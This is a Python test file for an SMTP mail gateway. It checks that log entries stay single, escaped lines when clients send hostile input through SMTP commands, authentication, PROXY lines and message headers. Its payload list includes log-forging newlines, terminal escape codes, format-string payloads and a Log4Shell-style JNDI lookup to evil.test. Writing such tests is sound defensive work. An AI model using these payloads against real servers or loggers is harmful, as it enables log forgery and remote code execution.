"""Message, B57: what strangers say, and that every line of a log stays one line."""

from __future__ import annotations

import base64
import re
from collections.abc import Callable
from pathlib import Path

from client import Client
from gateway import Certificate, Gateway
from hostile.world import MESSAGE, Stranger, bad_lines, codes
from rabbitmq import wait_until

# A second line, a terminal, a second line on some terminals, and what some loggers run.
INJECTIONS = [
    "\n2026-01-01T00:00:00Z info message.taken id=forged",
    "\r\n2026-01-01T00:00:00Z error forged",
    "\x1b[2J\x1b[1;31mred",
    "\x9b2J",
    "\u2028forged",
    "\x85forged",
    "\x0bforged\x0c",
    "\u202eforged",
    "${jndi:ldap://evil.test/x}",
    "{0.__class__}{log}{{",
    "%n%s%d%(x)s",
    '" id=forged reply=250',
    "\\x41\\",
    "\x00forged",
    "x" * 3000,
]
FORMAT = (
    "{$json.message_id} <{$json.envelope}> <{$json.recipient}> {$json.connection.helo} "
    "[{$json.campaign}] {$json.connection.user}"
)


def keys(folder: Path) -> dict[str, object]:
    return {
        "received-log-file": folder / "received.log",
        "received-log-format": FORMAT,
        "smtp-recipients": "local",
        "smtp-username": "anna",
        "smtp-password": "opensesame",
        "smtp-auth-insecure-range": "127.0.0.0/8",
        "application-log-level": "debug",
        "smtp-proxy": "127.0.0.9",
    }


def quoted(text: str) -> str:
    """As a local part, where nearly anything may stand."""
    return '"' + text.replace("\\", "\\\\").replace('"', '\\"') + '"'


def say_everything(server: Gateway, text: str) -> None:
    """Put it wherever a client can put anything."""
    octets = text.encode()
    with Client(server.port) as client:
        client.reply()
        client.send(b"EHLO " + octets + b"\r\n")
        client.send(b"EHLO client.test\r\n")
        client.send(b"MAIL FROM:<" + quoted(text).encode() + b"@there.test> SMTPUTF8\r\n")
        client.send(b"RCPT TO:<" + quoted(text).encode() + b"@ours.test>\r\n")
        client.send(b"RCPT TO:<x@" + octets + b".test>\r\nRSET\r\n")
        # Nobody waits for the replies here: some of these are more lines than one.
        client.send(octets + b"\r\nVRFY " + octets + b"\r\nQUIT\r\n")
        client.ended()
    with Client(server.port) as client:
        client.hello()
        client.send(b"AUTH PLAIN " + base64.b64encode(b"\0" + octets + b"\0pw") + b"\r\n")
        client.send(b"AUTH LOGIN " + base64.b64encode(octets) + b"\r\n*\r\nQUIT\r\n")
        client.ended()
    with Stranger(server.port, "127.0.0.9") as client:
        client.send(b"PROXY TCP4 " + octets + b" 192.0.2.1 1 1\r\n")
        client.ended()
    with Client(server.port) as client:
        client.hello()
        name = octets.replace(b"\r", b"").replace(b"\n", b"")
        header = b"x-mq-campaign: " + name + b"\r\nx-mq-" + name[:60] + b": " + name + b"\r\n"
        header += b"Subject: " + name + b"\r\n"
        header += b'Content-Disposition: attachment; filename="' + name + b'"\r\n'
        sender = quoted(text) if text.isprintable() and len(text) < 60 else "joe"
        codes(client, f"MAIL FROM:<{sender}@there.test> SMTPUTF8", "RCPT TO:<bob@ours.test>")
        client.ask("DATA")
        client.send(header + MESSAGE + b".\r\n")
        assert client.reply().startswith("250-2.0.0 ")


def test_B57_every_line_of_the_application_log_is_one_escaped_event(
    gateway: Callable[..., Gateway], tmp_path: Path
) -> None:
    server = gateway(keys(tmp_path))
    for text in INJECTIONS:
        say_everything(server, text)
    server.saw("message.taken", len(INJECTIONS))
    assert server.stop() == 0
    assert bad_lines(server) == []
    assert server.log.isascii()
    events = {line.split(" ")[2] for line in server.log.split("\n") if line}
    assert {"command.refused", "auth.refused", "xmq.rejected", "proxy.refused"} <= events
    # What was forged stands inside quotation marks, so its fields are nobody's.
    assert " id=forged" not in re.sub(r'"(?:[^"\\]|\\.)*"', "", server.log)


def test_B57_every_line_of_the_received_log_is_one_document(
    gateway: Callable[..., Gateway], tmp_path: Path
) -> None:
    server = gateway(keys(tmp_path))
    for text in INJECTIONS:
        say_everything(server, text)
    log = tmp_path / "received.log"
    wait_until(lambda: log.read_text().count("\n") >= len(INJECTIONS), "a line for each")
    assert server.stop() == 0
    lines = log.read_bytes().decode().split("\n")
    assert lines.pop() == ""
    identifiers = [document["message-id"] for document in server.consume()]
    # One line each, in order, and in each the number of blanks that the format has.
    assert [line.split(" ")[0] for line in lines] == identifiers
    assert all(line.isprintable() and line.count(" ") == 5 for line in lines)


def test_B57_a_tls_client_has_no_more_to_say(
    gateway: Callable[..., Gateway], certificate: Certificate, tmp_path: Path
) -> None:
    server = gateway(keys(tmp_path) | certificate.keys | {"smtp-timeout": 1})
    for octets in (b"\x16\x03\x01\n\x1b[2J", b"GET / HTTP/1.1\r\n\r\n"):
        with Client(server.secure_port) as client:
            client.send(octets + bytes(600))
            client.ended()
    server.saw("tls.failed", 2)
    assert server.stop() == 0
    assert bad_lines(server) == []
